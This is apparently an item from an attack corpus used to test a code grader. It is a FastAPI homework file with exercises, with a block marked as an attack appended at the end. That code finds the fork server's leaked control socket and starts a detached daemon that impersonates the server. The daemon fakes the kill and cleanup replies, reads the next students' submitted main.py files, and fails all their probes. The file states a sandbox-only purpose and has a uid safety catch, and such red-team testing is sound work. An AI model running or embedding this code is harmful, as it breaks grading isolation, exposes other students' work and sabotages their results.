"""Attack: impersonate the fork server over its leaked control socket, survive the cleaning, read and fail the next students

honest: 0
base: stub
sequence: victims

Every submission process inherits the fork server's control socket (worker.main wraps it in
control.makefile(), so the child's control.close() leaves the descriptor open). A setsid daemon with
many threads reads the grader's orders from it before the server does: it answers `end` and `clean`
itself (so nothing is killed or emptied), and answers `spawn` for the next students with pipes it
serves: it reads their main.py from /submissions and fails every probe with a message quoting it.

Safety: this file attacks the grader. Grade it only with `alfred grade` (sandboxed); it refuses
to import anywhere but as a sandbox's student user (uid 40000-59999).
"""

# >>> ATTACK
import os as _attack_os

if not 40000 <= _attack_os.getuid() < 60000:  # safety catch: armed only as a sandbox's student user
    raise ImportError("attack corpus file: grade it with `alfred grade` (sandboxed); never import or run it directly")
# <<< ATTACK

import os
import time
from typing import Annotated

from fastapi import BackgroundTasks, Depends, FastAPI, Header, HTTPException
from pydantic import BaseModel, EmailStr

app = FastAPI(title="Batcomputer API", version="7.0")


# --- Lesson 6: Batcomputer protocols (dependency injection) ---

API_KEYS = {"alfred-secret-key": "alfred@wayne.enterprises"}


async def common_parameters(skip: int = 0, limit: int = 10) -> dict[str, int]:
    """Pagination shared by every list endpoint."""
    return {"skip": skip, "limit": limit}


def get_db_session():
    """Hands out a (simulated) database session and always closes it afterwards."""
    session = {"connected": True}
    try:
        yield session
    finally:
        session["connected"] = False


async def get_api_key(x_api_key: Annotated[str | None, Header()] = None) -> str:
    """Requires a known `X-API-Key` header."""
    if x_api_key not in API_KEYS:
        raise HTTPException(status_code=401, detail="Invalid or missing API key")
    return x_api_key


async def verify_key_and_get_user(api_key: Annotated[str, Depends(get_api_key)]) -> dict[str, str]:
    """Chained after `get_api_key`: turns a valid key into its user."""
    return {"email": API_KEYS[api_key]}


GADGETS = ["Batarang", "Grapnel Gun", "Smoke Pellet", "Cryptographic Sequencer", "Batclaw"]


@app.get("/gadgets")
async def list_gadgets(
    page: Annotated[dict[str, int], Depends(common_parameters)],
    db: Annotated[dict, Depends(get_db_session)],
):
    return {"gadgets": GADGETS[page["skip"] : page["skip"] + page["limit"]], "db_connected": db["connected"]}


@app.get("/users/me")
async def read_current_user(user: Annotated[dict[str, str], Depends(verify_key_and_get_user)]):
    return user


# --- Lesson 7: Alfred's duties (background tasks) ---

LOG_DIR = "batcomputer_logs"
LOG_FILE = os.path.join(LOG_DIR, "activity_log.txt")


def log_batcomputer_activity(user_email: str, activity: str = ""):
    """Appends one line about a user's activity to the Batcomputer log, after 2 s of simulated work."""
    log_line = f"User {user_email} activity: {activity}\n"
    print(f"--- BACKGROUND TASK START: Logging activity: '{log_line.strip()}' ---")
    time.sleep(2)
    os.makedirs(LOG_DIR, exist_ok=True)
    # TODO Exercise 4 (stretch): when batcomputer_logs/activity_log.txt does not exist yet, print
    #   --- BACKGROUND TASK: Creating log file ---
    # before the file is opened below; print nothing extra when it is already there. (os.path.exists helps.)
    with open(LOG_FILE, mode="a") as log_file:
        log_file.write(log_line)
    print(f"--- BACKGROUND TASK END: Activity logged to '{LOG_FILE}' for {user_email} ---")


@app.post("/log-activity/{user_email}")
async def log_user_activity(
    user_email: EmailStr,
    background_tasks: BackgroundTasks,
    activity_description: str = "Generic activity logged.",
):
    """Confirms at once; Alfred writes the log line after the response has gone out."""
    background_tasks.add_task(log_batcomputer_activity, user_email, activity=activity_description)
    return {"message": f"Activity logging initiated for {user_email}."}


# --- Homework ---


# TODO Exercise 1 (model): give IntelReportRequest two fields:
#   recipient_email, validated as an email address (pydantic's EmailStr), and
#   report_name, a string that every request must include.
class IntelReportRequest(BaseModel):
    """A request for an intel report: which report, and who receives it."""


# TODO Exercise 2 (task): print a start message naming the report and its recipient, simulate the
# compilation with time.sleep(5), then print an end message naming both again.
def simulate_intel_report_compilation(report_request: IntelReportRequest):
    """Compiles an intel report for its recipient: 5 s of simulated work."""
    raise NotImplementedError("Exercise 2 (task): simulate_intel_report_compilation is not written yet")


# TODO Exercise 3 (endpoint): add the route POST /request-intel-report. It takes the JSON body as an
# IntelReportRequest, injects BackgroundTasks, schedules simulate_intel_report_compilation with the
# report request it received (the object itself), and answers at once with a confirmation message.


# >>> ATTACK
import json as _json
import os as _os
import socket as _socket
import stat as _stat
import threading as _threading

_FAKE_PID = 4_190_000


def _control_socket():
    for name in _os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            if not _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                continue
            sock = _socket.socket(fileno=_os.dup(fd))
        except OSError:
            continue
        if sock.family == _socket.AF_UNIX and sock.type == _socket.SOCK_STREAM:
            return sock
        sock.close()
    return None


def _serve_victim(main, probes_fd, replies_fd):
    try:
        source = open(main, encoding="utf-8", errors="replace").read()
    except OSError as exc:
        source = f"<unreadable: {exc}>"
    first = next((line for line in source.splitlines() if line.strip()), "")[:70]
    message = f"HIJACKED: another submission answered for the fork server and read {main}: {len(source)} chars, first line {first!r}"
    with _os.fdopen(probes_fd, "rb") as probes, _os.fdopen(replies_fd, "wb", buffering=0) as replies:
        for line in probes:
            request = _json.loads(line)
            observation = {"load_error": {"type": "Hijacked", "message": message, "line": None}}
            replies.write((_json.dumps({"id": request["id"], "observation": observation}) + "\n").encode())


def _impersonate(sock):
    lock = _threading.Lock()

    def answer(obj):
        with lock:
            sock.sendall((_json.dumps(obj) + "\n").encode())

    def reader():
        while True:
            data = sock.recv(65536)
            if not data:
                _os._exit(0)
            for line in data.splitlines():
                try:
                    order = _json.loads(line)
                except ValueError:
                    continue
                if order.get("op") == "end":
                    answer({"ended": "exit 0"})
                elif order.get("op") == "clean":
                    answer({"clean": True, "strays": 0})
                elif order.get("op") == "spawn":
                    probes_r, probes_w = _os.pipe()
                    replies_r, replies_w = _os.pipe()
                    with lock:
                        _socket.send_fds(sock, [(_json.dumps({"pid": _FAKE_PID}) + "\n").encode()], [probes_w, replies_r])
                    _os.close(probes_w)
                    _os.close(replies_r)
                    _threading.Thread(target=_serve_victim, args=(order["main"], probes_r, replies_w), daemon=True).start()

    for _ in range(40):
        try:
            _threading.Thread(target=reader).start()
        except RuntimeError:
            break


def _start_daemon():
    try:
        fd = _os.open("/tmp/.hijack-started", _os.O_CREAT | _os.O_EXCL | _os.O_WRONLY)
    except OSError:
        return  # every probe imports main.py again; one daemon is enough
    _os.close(fd)
    sock = _control_socket()
    if sock is None:
        return
    first = _os.fork()
    if first == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                keep = sock.fileno()
                for name in _os.listdir("/proc/self/fd"):
                    if name.isdigit() and int(name) not in (keep,):
                        try:
                            _os.close(int(name))
                        except OSError:
                            pass
                _impersonate(sock)
                _threading.Event().wait()
        finally:
            _os._exit(0)
    _os.waitpid(first, 0)


_start_daemon()
# <<< ATTACK
